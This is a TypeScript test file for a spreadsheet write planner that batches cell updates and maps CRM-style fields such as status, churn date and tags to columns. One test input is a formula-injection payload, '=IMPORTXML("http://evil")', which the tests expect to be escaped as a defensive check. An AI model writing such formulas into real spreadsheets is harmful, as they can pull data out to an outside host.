import { MappingError } from '../../../src/core/sheet/columns';
import { cellCount, planFieldWrites, planWrites, toCellValue } from '../../../src/core/sheet/write-plan';

describe('planWrites', () => {
  it('merges consecutive rows of a column, and side-by-side columns over the same rows', () => {
    const updates = [
      { row: 3, column: 5, value: 'b' },
      { row: 2, column: 5, value: 'a' },
      { row: 2, column: 6, value: 'x' },
      { row: 3, column: 6, value: 'y' },
      { row: 9, column: 5, value: 'z' },
    ];
    expect(planWrites(updates)).toEqual([
      {
        row: 2,
        column: 5,
        values: [
          ['a', 'x'],
          ['b', 'y'],
        ],
      },
      { row: 9, column: 5, values: [['z']] },
    ]);
  });

  it('keeps the last update of a cell and writes nothing for nothing', () => {
    expect(
      planWrites([
        { row: 2, column: 1, value: 1 },
        { row: 2, column: 1, value: 2 },
      ]),
    ).toEqual([{ row: 2, column: 1, values: [[2]] }]);
    expect(planWrites([])).toEqual([]);
  });

  it('writes a whole scored column pair in one block, whatever the row count', () => {
    const updates = Array.from({ length: 5000 }, (_, i) => [
      { row: i + 2, column: 8, value: i },
      { row: i + 2, column: 9, value: 'low' },
    ]).flat();
    const blocks = planWrites(updates);
    expect(blocks).toHaveLength(1);
    expect(blocks[0]!.values).toHaveLength(5000);
    expect(cellCount(blocks)).toBe(10_000);
  });

  it('never writes a cell nobody asked for: a gap splits the block', () => {
    const blocks = planWrites([
      { row: 2, column: 1, value: 'a' },
      { row: 4, column: 1, value: 'c' },
      { row: 2, column: 2, value: 'b' },
    ]);
    expect(blocks).toEqual([
      { row: 2, column: 1, values: [['a', 'b']] },
      { row: 4, column: 1, values: [['c']] },
    ]);
  });
});

describe('toCellValue', () => {
  it.each([
    ['plain', 'plain'],
    ['=IMPORTXML("http://evil")', `'=IMPORTXML("http://evil")`],
    ['+1 555 0100', `'+1 555 0100`],
    ['-vip', `'-vip`],
    ['@here', `'@here`],
    ['-12.5', '-12.5'],
    [42, 42],
    [Number.NaN, ''],
    [true, true],
    [null, ''],
    [undefined, ''],
    [['vip', 'hotels'], 'vip, hotels'],
  ])('%j is written as %j', (input, expected) => {
    expect(toCellValue(input)).toEqual(expected);
  });

  it('keeps dates as dates', () => {
    const d = new Date('2024-03-05T00:00:00Z');
    expect(toCellValue(d)).toEqual(d);
  });
});

describe('planFieldWrites', () => {
  const headers = ['Name', 'Email', 'Status', 'Churn date', 'Tags', 'ChurnGuard risk'];
  const rowsOf = (email: string) => ({ 'ana@x.example': [7], 'bo@x.example': [3, 9] })[email];

  it('puts each field in its mapped column at the row holding the email now, in contiguous blocks', () => {
    const plan = planFieldWrites(
      [
        { email: 'Ana@X.example', field: 'status', value: 'Churned' },
        { email: 'ana@x.example', field: 'churnDate', value: new Date('2024-03-05T00:00:00Z') },
        { email: 'ana@x.example', field: 'tags', value: ['vip', 'q4'] },
      ],
      { headers, rowsOf },
    );
    expect(plan).toEqual({
      blocks: [{ row: 7, column: 3, values: [['Churned', new Date('2024-03-05T00:00:00Z'), 'vip, q4']] }],
      addedHeaders: [],
      skipped: [],
    });
  });

  it('follows the email when the row it was given has moved, and uses the first of duplicates', () => {
    const plan = planFieldWrites(
      [
        { email: 'ana@x.example', row: 2, field: 'status', value: 'Active' },
        { email: 'bo@x.example', field: 'status', value: 'Active' },
      ],
      { headers, rowsOf },
    );
    expect(plan.blocks).toEqual([
      { row: 3, column: 3, values: [['Active']] },
      { row: 7, column: 3, values: [['Active']] },
    ]);
  });

  it('writes by row alone, and to a column named by its header', () => {
    const plan = planFieldWrites(
      [
        { row: 2, header: 'ChurnGuard risk', value: 71 },
        { row: 3, header: 'churnguard risk', value: 12 },
      ],
      { headers },
    );
    expect(plan.blocks).toEqual([{ row: 2, column: 6, values: [[71], [12]] }]);
  });

  it('adds a column, header included, for a field or header the sheet lacks', () => {
    const plan = planFieldWrites(
      [
        { email: 'ana@x.example', field: 'owner', value: 'Sofia' },
        { email: 'ana@x.example', header: 'ChurnGuard band', value: 'high' },
        { email: 'bo@x.example', field: 'owner', value: 'Dan' },
      ],
      { headers, rowsOf },
    );
    expect(plan.addedHeaders).toEqual([
      { header: 'Owner', column: 7 },
      { header: 'ChurnGuard band', column: 8 },
    ]);
    expect(plan.blocks).toEqual([
      { row: 1, column: 7, values: [['Owner', 'ChurnGuard band']] },
      { row: 3, column: 7, values: [['Dan']] },
      { row: 7, column: 7, values: [['Sofia', 'high']] },
    ]);
  });

  it('skips, with a reason, what it cannot place', () => {
    const plan = planFieldWrites(
      [
        { email: 'gone@x.example', field: 'status', value: 'Active' },
        { row: 1, field: 'status', value: 'Active' },
        { field: 'status', value: 'Active' },
        { row: 4, value: 'x' },
      ],
      { headers, rowsOf },
    );
    expect(plan.blocks).toEqual([]);
    expect(plan.skipped.map((s) => s.reason)).toEqual([
      'no row holds gone@x.example now',
      'row 1 is not a data row',
      'no email or row to write to',
      'no field or header to write',
    ]);
  });

  it('skips updates needing a new column when the sheet cannot grow', () => {
    const plan = planFieldWrites(
      [
        { row: 2, field: 'owner', value: 'Sofia' },
        { row: 2, field: 'status', value: 'Active' },
      ],
      { headers, maxColumns: 6 },
    );
    expect(plan.blocks).toEqual([{ row: 2, column: 3, values: [['Active']] }]);
    expect(plan.skipped.map((s) => s.reason)).toEqual([
      'no room for a new "Owner" column: the tab has 6 columns',
    ]);
  });

  it('uses the explicit mapping, and needs an email column', () => {
    const plan = planFieldWrites([{ row: 5, field: 'mrr', value: 10 }], {
      headers: ['Contact', 'Revenue'],
      mapping: { email: 'Contact', mrr: 'Revenue' },
    });
    expect(plan.blocks).toEqual([{ row: 5, column: 2, values: [[10]] }]);
    expect(() => planFieldWrites([], { headers: ['Name'] })).toThrow(MappingError);
  });
});
